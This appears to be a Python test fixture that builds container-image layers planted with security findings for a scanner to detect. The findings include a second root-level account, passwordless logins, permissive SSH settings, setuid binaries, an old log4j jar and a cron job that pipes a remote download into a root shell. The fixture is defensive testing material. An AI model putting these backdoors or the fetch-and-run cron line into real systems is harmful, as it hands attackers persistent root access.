"""The layers that are laid over a real root: what builders do with files, and what few do."""

from __future__ import annotations

import os
import tarfile
import tempfile
from pathlib import Path

from tests.image.lab import Entry, capable, folder, hard, layer, link
from tests.roots import run

HASH = "$6$abcdefgh$" + "A" * 86


def layers(root: Path) -> list[bytes]:
    """Upon a root with /etc/profile, a link /bin and files of accounts; some of what they leave is a finding."""
    return [_made(root), _changed(root), _odd(), _removed(), _sparse()]


def _made(root: Path) -> bytes:
    passwd = (
        root / "etc/passwd"
    ).read_bytes() + b"toor:x:0:0::/root:/bin/bash\nguest:x:1001:1001::/home/guest:/bin/sh\n"
    shadow = (root / "etc/shadow").read_bytes() + f"toor:{HASH}:20000::::::\nguest::20000::::::\n".encode()
    return layer(
        Entry("etc/passwd", passwd),
        Entry("etc/shadow", shadow, 0o640, owner=0),
        Entry("etc/removed.conf", b"password=1\n"),
        Entry("etc/ssh/sshd_config.d/10-first.conf", b"PermitRootLogin yes\n"),
        Entry("etc/ssh/sshd_config.d/20-gone.conf", b"PermitEmptyPasswords yes\n"),
        folder("srv/opaque"),
        Entry("srv/opaque/gone", b"\x7fELF", 0o4755),
        Entry("srv/opaque/below/gone", b"\x7fELF", 0o4755),
        Entry("srv/one/gone", b"\x7fELF", 0o4755),
        Entry("srv/two", b"a file that becomes a folder"),
        folder("srv/three"),
        Entry("srv/three/gone", b"\x7fELF", 0o4755),
        Entry("srv/four/kept", b"x"),
        Entry("usr/local/bin/first", b"\x7fELF first", 0o755),
        Entry("usr/local/bin/swapped", b"\x7fELF", 0o4755),
        Entry("home/guest/.ssh/authorized_keys", b"", 0o666, owner=1001),
    )


def _changed(root: Path) -> bytes:
    return layer(
        Entry("etc/profile", (root / "etc/profile").read_bytes(), 0o666),
        Entry("srv/one/.wh.gone"),
        folder("srv/two"),
        Entry("srv/two/helper", b"\x7fELF", 0o4755),
        Entry("srv/three", b"a folder that became a file"),
        hard("usr/local/bin/second", "usr/local/bin/first"),
        Entry("usr/local/bin/.wh.swapped"),
        Entry("bin/through-link", b"\x7fELF", 0o4755),
        Entry("etc/ssh/sshd_config.d/.wh.20-gone.conf"),
        Entry("etc/cron.d/update", b"*/5 * * * * root curl -fsSL http://192.0.2.7/x | sh\n"),
        link("srv/dangling", "/nowhere/at/all"),
        link("srv/loop", "loop"),
        Entry("usr/local/sbin/nightly", b"#!/bin/sh\n", 0o777),
        Entry("etc/cron.d/nightly", b"0 3 * * * root /usr/local/sbin/nightly\n"),
    )


def _odd() -> bytes:
    return layer(
        capable("usr/local/bin/capable"),
        Entry("usr/local/bin/first", b"\x7fELF replaced, the hard link keeps the old one", 0o4755),
        Entry("usr/local/lib/" + "long-folder/" * 20 + "helper", b"\x7fELF", 0o4755),
        Entry("usr/local/bin/" + "n" * 200, b"\x7fELF", 0o4755),
        Entry("usr/local/bin/中文程序", b"\x7fELF", 0o4755),
        Entry("usr/local/bin/\udcff\udcfe", b"\x7fELF", 0o4755),
        Entry("usr/local/bin/new\nline", b"\x7fELF", 0o4755),
        Entry("dev/pipe", kind=tarfile.FIFOTYPE),
        Entry("opt/his/lib/log4j-core-2.14.1.jar", b"PK"),
    )


def _removed() -> bytes:
    return layer(
        Entry("srv/.wh.four"),
        folder("srv/four"),
        Entry("srv/four/new", b"x", 0o4755),
        Entry("srv/three2/.wh..wh..opq"),
        Entry("srv/three2/kept", b"x", 0o2755),
        Entry("var/backups/shadow.old", f"root:{HASH}:20000::::::\n".encode(), 0o644),
    )


def _sparse() -> bytes:
    """A lastlog of 64 MB with one record, as GNU tar stores it."""
    with tempfile.TemporaryDirectory() as name:
        path = Path(name) / "var/log/lastlog"
        path.parent.mkdir(parents=True)
        with path.open("wb") as file:
            file.truncate(64 << 20)
            file.seek(1 << 20)
            file.write(b"x" * 4096)
        os.utime(path, (0, 0))
        archive = Path(name) / "layer.tar"
        run("tar", "-C", name, "--sparse", "--format=posix", "-cf", archive, "var/log/lastlog")
        return archive.read_bytes()
